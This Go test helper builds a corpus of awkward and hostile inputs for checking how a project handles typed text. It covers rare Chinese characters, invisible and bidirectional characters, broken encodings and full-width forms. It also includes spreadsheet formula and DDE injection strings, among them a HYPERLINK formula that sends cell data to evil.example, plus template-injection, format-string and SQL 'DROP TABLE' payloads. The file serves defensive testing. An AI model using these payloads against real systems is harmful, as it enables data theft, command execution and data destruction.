package hostile

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"mingjing/internal/testkit"
)

// full tells that every payload is wanted, not a sample.
func full() bool { return os.Getenv("MINGJING_FULL") != "" }

// corpus is everything hostile that may be typed: the public collections where they are at hand, the Chinese oddities always.
func corpus(t testing.TB) []string {
	t.Helper()
	list := oddities()
	path := filepath.Join(testkit.Root(t), "..", "shared", "real", "security", "payloads.jsonl")
	file, err := os.Open(path)
	if err != nil {
		t.Logf("shared/real/security/payloads.jsonl is not beside this checkout: only the %d oddities run", len(list))
		return list
	}
	defer file.Close()
	lines := bufio.NewScanner(file)
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		var row struct {
			Payload string `json:"payload"`
		}
		if err := json.Unmarshal(lines.Bytes(), &row); err != nil {
			t.Fatalf("payloads.jsonl: %v", err)
		}
		list = append(list, row.Payload)
	}
	if err := lines.Err(); err != nil {
		t.Fatal(err)
	}
	return list
}

// oddities are texts that Chinese names, places and careless copying bring along, and what only an attacker sends.
func oddities() []string {
	var list []string
	// 姓 and 名 outside the basic plane, of the extensions A to H, of compatibility and of private use.
	for _, r := range []rune{'𠮷', '㛃', '䶮', '𬭛', '𨱏', '𪚥', '𫗧', '𰻝', '𱍊', '𲎯', '﨑', '\U0002F800', '\uE000', '\U000F0000', '〇', '々', '⼀', '⺀', '㈱', '𝟘'} {
		for _, form := range []string{"%c", "%c文远", "张%c", "欧阳%c%[1]c", "%c氏·买买提", "云山市%c区%[1]c路1号"} {
			list = append(list, fmt.Sprintf(form, r))
		}
	}
	// What is not seen or turns the writing: in front, inside, behind.
	for _, s := range []string{"\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202d", "\u202e", "\u2066", "\u2067", "\u2069", "\ufeff", "\u00ad", "\u061c", "\u2060",
		"\u00a0", "\u3000", "\u2028", "\u2029", "\u0085", "\ufe0f", "\U000E0100", "\U000E0001", "\u0301", "\u20dd", "\t", "\r", "\n", "\r\n", "\v", "\f"} {
		list = append(list, s, s+"张三", "张"+s+"三", "张三"+s)
	}
	// Control signs, broken encodings, what no text may hold.
	for _, s := range []string{"\x00", "\x01", "\x08", "\x1b[31m", "\x7f", "\u0080", "\ufffe", "\uffff", "\ufffd", "\xff", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xe4\xb8", "\xd5\xc5\xc8\xfd"} {
		list = append(list, "张"+s+"三", s)
	}
	// Whole and half width, numbers of other scripts, combining, emoji, other directions.
	list = append(list, "ＡＢＣ１２３", "１２３４５６", "＝１＋１", "＋８６", "－１", "＠ＳＵＭ（１）", "ｓｃｒｉｐｔ", "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞", "①②③", "㊣", "½", "٣٤٥", "१२३", "ⅩⅡ",
		"e\u0301", "é", "각", "각", "Z̸̧̢͓͙̥̫̑̈́͝ä̴l̷g̶o̵", "👨‍👩‍👧‍👦", "🇨🇳", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👍🏽", "مرحبا", "שלום עולם", "‏العربية 123", "ཨོཾ", "𑀓", "ไทย", "ß", "İ", "ﬁ", "ſ")
	// Formulas, numbers that are none, papers' own marks, places in templates.
	for _, s := range []string{"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=HYPERLINK(\"https://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0",
		"DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!D2", "_x0041_", "_x000D_=1", "{{.}}", "{{template \"x\"}}", "${7*7}", "%s%n%x", "%!d(string=x)", "$1", "\\1", "'; DROP TABLE account; --", "%", "_", "ꙮ", "ꙮs7075626c6973686564",
		"〔2026〕", "四民罚决字〔9999999999〕99999999999999999999号", "《》", "第〇条", "9999-99-99", "0000-00-00", "二〇二六年十三月三十二日", "-0", "1e309", "NaN", "９９９９９９９９９９９９９９９９９９９９", "null", "[object Object]"} {
		list = append(list, s, s+"<!-- -->")
	}
	list = append(list, strings.Repeat("长", 5000), strings.Repeat("𠮷", 3000), strings.Repeat("a\u0301", 2000), strings.Repeat("行\n", 2000), strings.Repeat("<b>", 3000), strings.Repeat("((((", 2000))
	return list
}

// stride takes a sample of the corpus that reaches all of it over the offsets, and all of it in the full run.
func stride(list []string, every int) []string {
	if full() {
		return list
	}
	var some []string
	for i := 0; i < len(list); i += every {
		some = append(some, list[i])
	}
	return some
}

// sayable tells that a text can be written at all: UTF-8 without control signs.
func sayable(text string) bool {
	return utf8.ValidString(text) && !strings.ContainsFunc(text, func(r rune) bool {
		return r < ' ' && r != '\n' && r != '\t' && r != '\r' || r >= 0x7f && r < 0xa0 || r == '\ufffe' || r == '\uffff'
	})
}
